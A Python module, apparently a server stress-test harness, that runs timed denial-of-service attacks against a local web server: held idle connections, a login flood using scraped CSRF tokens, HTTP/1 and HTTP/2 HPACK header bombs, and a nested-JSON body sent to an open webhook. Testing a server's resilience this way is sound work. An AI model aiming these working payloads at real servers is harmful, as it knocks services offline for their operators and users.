"""Cheap attacks on a web server; each runs for a limited time.

They run in a separate process, so that they do not slow down the client that measures
response times.
"""

from __future__ import annotations

import asyncio
import itertools
import resource
from collections.abc import Awaitable, Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass

SOURCE = "127.0.0.2"
CLIENTS = 24
IDLE_CONNECTIONS = 1_900
BOMBS = 4
STREAMS_OF_BOMB = 6
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])


@dataclass(frozen=True, slots=True, kw_only=True)
class Victim:
    """Where the server listens, and the path of a webhook without a secret."""

    port: int
    open_path: str


Attack = Callable[[Victim], Awaitable[None]]


def run_attack(name: str, victim: Victim, seconds: float) -> None:
    """Attack for a time; an attacker that is rejected starts again."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(_run(ATTACKS[name], victim, seconds))


async def _run(attack: Attack, victim: Victim, seconds: float) -> None:
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await attack(victim)


async def _idle(victim: Victim) -> None:
    await _run_clients(IDLE_CONNECTIONS, victim, _hold)


async def _log_in(victim: Victim) -> None:
    numbers = itertools.count()
    await _run_clients(CLIENTS, victim, lambda t: _try_passwords(t, numbers))


async def _bomb_http_2(victim: Victim) -> None:
    streams = (_bomb_stream(2 * n + 1) for n in range(STREAMS_OF_BOMB))
    data = _PREFACE + b"".join(streams)
    await _run_clients(BOMBS, victim, lambda t: _send_and_read(t, data))


async def _bomb_http_1(victim: Victim) -> None:
    lines = ["GET /nowhere HTTP/1.1", "Host: 127.0.0.1"]
    lines += [f"X-Bomb: {'a' * 40}"] * 1_200
    data = "\r\n".join([*lines, "", ""]).encode()
    await _run_clients(CLIENTS, victim, lambda t: _send_and_read(t, data))


async def _many_arrays(victim: Victim) -> None:
    body = b"[" + b"[]," * 1_000_000 + b"[]]"
    head = (
        f"POST {victim.open_path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
        f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
    )
    data = head.encode() + body
    await _run_clients(12, victim, lambda t: _send_and_read(t, data))


ATTACKS: dict[str, Attack] = {
    "1,900 idle connections": _idle,
    "24 login clients": _log_in,
    "header bomb, HTTP/2": _bomb_http_2,
    "header bomb, HTTP/1": _bomb_http_1,
    "3 MB of [],": _many_arrays,
}


async def _run_clients(count: int, victim: Victim, client: Attack) -> None:
    await asyncio.gather(*(_repeat(victim, client) for _ in range(count)))


async def _repeat(victim: Victim, client: Attack) -> None:
    while True:
        with suppress(OSError, asyncio.IncompleteReadError, IndexError):
            await client(victim)
        await asyncio.sleep(0)


async def _hold(victim: Victim) -> None:
    """Hold a connection without a byte until the server closes it."""
    await _send_and_read(victim, b"")


async def _send_and_read(victim: Victim, data: bytes) -> None:
    reader, writer = await _connect(victim)
    try:
        writer.write(data)
        await reader.read()
    finally:
        writer.close()


async def _try_passwords(victim: Victim, numbers: Iterator[int]) -> None:
    reader, writer = await _connect(victim)
    try:
        cookie, token = await _login_token(reader, writer)
        while True:
            name = f"name-{next(numbers)}"
            form = f"csrfmiddlewaretoken={token}&username={name}&password=wrong"
            writer.write(
                "POST /admin/login/ HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                f"Cookie: {cookie}\r\n"
                "Content-Type: application/x-www-form-urlencoded\r\n"
                f"Content-Length: {len(form)}\r\n\r\n{form}".encode()
            )
            await _read_answer(reader)
    finally:
        writer.close()


async def _login_token(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> tuple[str, str]:
    writer.write(b"GET /admin/login/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
    head = await _read_answer(reader)
    token = head.partition("csrftoken=")[2].partition(";")[0]
    return f"csrftoken={token}", token


async def _read_answer(reader: asyncio.StreamReader) -> str:
    head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
    _, _, rest = head.lower().partition("content-length:")
    await reader.readexactly(int(rest.split("\r\n")[0]))
    return head


async def _connect(
    victim: Victim,
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.open_connection(
        "127.0.0.1", victim.port, local_addr=(SOURCE, 0)
    )


def _bomb_stream(stream: int) -> bytes:
    """Return one request whose headers are 16 MB after HPACK decoding (RFC 7541)."""
    path = b"/nowhere"
    block = b"\x83\x86\x04" + bytes([len(path)]) + path + b"\x01\x01a"
    value = b"a" * 4_000
    # A literal that is added to the table, its length as a multi-byte integer.
    length = b"\x7f" + bytes([(3873 & 127) | 128, 3873 >> 7])
    block += b"\x40\x06x-bomb" + length + value + b"\xbe" * 3_900
    size = len(block).to_bytes(3, "big")
    return size + b"\x01\x05" + stream.to_bytes(4, "big") + block
